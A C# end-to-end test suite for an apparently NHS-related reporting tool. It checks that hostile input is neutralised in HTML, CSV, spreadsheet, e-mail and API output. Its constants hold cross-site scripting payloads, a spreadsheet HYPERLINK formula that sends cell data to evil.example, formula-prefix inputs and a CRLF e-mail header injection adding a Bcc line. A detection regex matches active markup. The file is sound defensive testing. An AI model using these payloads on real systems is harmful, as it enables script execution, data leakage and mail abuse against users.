using System.IO.Compression;
using System.Text.Json;
using System.Text.RegularExpressions;
using Wres.EndToEndTests.Serve;

namespace Wres.EndToEndTests.Hostile;

/// <summary>Markup and formulas in every field that is printed: they come out as text, in documents, tables, e-mails and the API.</summary>
public sealed partial class InjectionTests : IDisposable
{
    private const string Script = "<script>alert(1)</script>";
    private const string Image = "<img src=x onerror=alert(2)>";
    private const string Vector = "<svg onload=alert(3)><a xlink:href='javascript:alert(4)'>";
    private const string Link = "[go](javascript:alert(5)) ![x](http://evil.example/x.png) [out](data:text/html,alert)";
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    private static readonly string[] Contacts = ["data@example.nhs.uk"];
    private readonly TemporaryFolder _folder = new();

    [Fact]
    public async Task Markup_and_formulas_come_out_as_text()
    {
        Plant("in");
        var run = await WresProcess.RunAsync("run", "--input", _folder.In("in"), "--output", _folder.In("out"), "--edition", "internal");
        run.ExitCode.ShouldBeLessThanOrEqualTo(1, run.Error);
        var htmls = Directory.GetFiles(_folder.In("out"), "*.html", SearchOption.AllDirectories);
        htmls.Length.ShouldBe(8, "four documents, and report, action plan, board summary and index page of the publication");
        foreach (var file in htmls)
        {
            var html = await File.ReadAllTextAsync(file, TestContext.Current.CancellationToken);
            Active().Matches(html).Select(m => m.Value).ShouldBeEmpty(file);
        }

        string.Concat(htmls.Select(File.ReadAllText)).ShouldContain("&lt;script");
        foreach (var file in Directory.GetFiles(_folder.In("out"), "*.csv", SearchOption.AllDirectories))
            Cells(await File.ReadAllTextAsync(file, TestContext.Current.CancellationToken)).ShouldNotContain(c => StartsFormula(c), file);
        foreach (var file in Directory.GetFiles(_folder.In("out"), "*.xlsx", SearchOption.AllDirectories))
        {
            using var zip = ZipFile.OpenRead(file);
            foreach (var sheet in zip.Entries.Where(e => e.FullName.Contains("worksheets/", StringComparison.Ordinal)))
            {
                using var reader = new StreamReader(await sheet.OpenAsync(TestContext.Current.CancellationToken));
                (await reader.ReadToEndAsync(TestContext.Current.CancellationToken)).ShouldNotContain("<f>");
            }
        }

        foreach (var mail in Directory.GetFiles(_folder.In("out", "mail")))
        {
            var headers = (await File.ReadAllTextAsync(mail, TestContext.Current.CancellationToken)).Split("\r\n\r\n")[0];
            headers.ShouldNotContain("Bcc:", Case.Insensitive);
            headers.ShouldNotContain("text/html", Case.Insensitive);
        }
    }

    [Fact]
    public async Task The_api_gives_texts_as_json_and_pages_that_can_not_run_anything()
    {
        Plant("data/extracts");
        Directory.Move(_folder.In("data", "extracts", "settings"), _folder.In("data", "settings"));
        await using var serve = await ServeProcess.StartAsync(_folder.In("data"), null, "--quiet-period", "00:00:00", "--browser", "/no/such/browser");
        await serve.UntilCompletedAsync("RXX", "2025-03");
        foreach (var path in new[] { "actions", "data-quality", "indicators", "indicators/1/breakdowns?format=csv", "report.html", "settings" })
        {
            using var response = await serve.Http.GetAsync($"/api/organisations/RXX/periods/2025-03/{path}", TestContext.Current.CancellationToken);
            response.EnsureSuccessStatusCode();
            response.Headers.GetValues("X-Content-Type-Options").ShouldBe(["nosniff"]);
            response.Headers.GetValues("Referrer-Policy").ShouldBe(["no-referrer"]);
            response.Headers.GetValues("Content-Security-Policy").Single().ShouldStartWith("default-src 'none'");
            var type = response.Content.Headers.ContentType!.MediaType;
            type.ShouldBe(path.EndsWith("html", StringComparison.Ordinal) ? "text/html" : path.Contains("csv", StringComparison.Ordinal) ? "text/csv" : "application/json");
            if (type == "text/csv")
                Cells(await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken)).ShouldNotContain(c => StartsFormula(c));
        }
    }

    [Fact]
    public async Task A_name_that_could_begin_another_header_line_is_refused_before_anything_runs()
    {
        Plant("in");
        _folder.Write("in/settings/organisation.json", JsonSerializer.Serialize(new { name = "Trust\r\nBcc: evil@example.com" }));
        var run = await WresProcess.RunAsync("run", "--input", _folder.In("in"), "--output", _folder.In("out"), "--no-documents");
        run.ExitCode.ShouldBe(2);
        run.Error.ShouldContain("the setting name");
    }

    public void Dispose() => _folder.Dispose();

    private void Plant(string root)
    {
        static string Quoted(string text) => "\"" + text.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        var texts = new[] { Script, Image, Vector, Link, Formula, "+1+cmd", "@SUM(1)", "-2+3" };
        var staff = Drop.Staff(60, 3).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        for (var i = 1; i < staff.Length; i++)
            staff[i] = string.Join(',', staff[i].Split(',')[..^1].Append(Quoted(texts[i % texts.Length])));
        _folder.Write($"{root}/RXX/2025-03/staff.csv", string.Join('\n', staff));
        const string Columns = "Reference,Indicators,Action,Objective,Rationale,KPIs,Owner,Due,Status,Progress,Next Steps,Update,Impact,Sustainability,Review Date,Forum,Frequency,Previous Reference";
        var rows = texts.Select((t, i) => string.Join(',', Columns.Split(',').Select(c => c switch { "Reference" => $"A{i}{Quoted(t)[1..^1].Replace("\"", "", StringComparison.Ordinal).Replace(",", "", StringComparison.Ordinal)}", "Indicators" => "1;2", "Status" => "New", _ => Quoted(t) })));
        _folder.Write($"{root}/RXX/2025-03/actions.csv", Columns + "\n" + string.Join('\n', rows));
        _folder.Write($"{root}/RXX/2025-03/bad{Image.Replace('<', '(').Replace('>', ')').Replace(" ", "", StringComparison.Ordinal)}.csv", $"{Script},{Formula.Replace(",", ";", StringComparison.Ordinal)}\n1,2\n");
        _folder.Write($"{root}/settings/organisation.json", JsonSerializer.Serialize(new { name = $"Trust {Script} {Vector}"[..Math.Min(150, $"Trust {Script} {Vector}".Length)], mail = new { dataContacts = Contacts, steeringGroup = Contacts } }));
        _folder.Write($"{root}/settings/narrative/introduction.md", $"{Script}\n\n{Image}\n\n{Link}\n\n{Vector}\n");
    }

    private static bool StartsFormula(string cell) =>
        cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' && !double.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _);

    private static IEnumerable<string> Cells(string csv) => Cell().Matches(csv).Select(m => m.Groups["text"].Value.Replace("\"\"", "\"", StringComparison.Ordinal));

    /// <summary>An element or attribute that could run or fetch something.</summary>
    [GeneratedRegex(@"<script|<img[^>]*src=[""']?(x|http)[^>]*>|<[^>]*\son\w+\s*=|<[^>]*(href|src)\s*=\s*[""']?\s*(javascript|data:text)|<iframe|<object|<embed|<link[^>]+href=[""']?http", RegexOptions.IgnoreCase | RegexOptions.NonBacktracking | RegexOptions.ExplicitCapture)]
    private static partial Regex Active();

    [GeneratedRegex("(?:^|,)\"?(?<text>(?:[^\",\r\n]|\"\")*)", RegexOptions.Multiline | RegexOptions.ExplicitCapture, 5000)]
    private static partial Regex Cell();
}
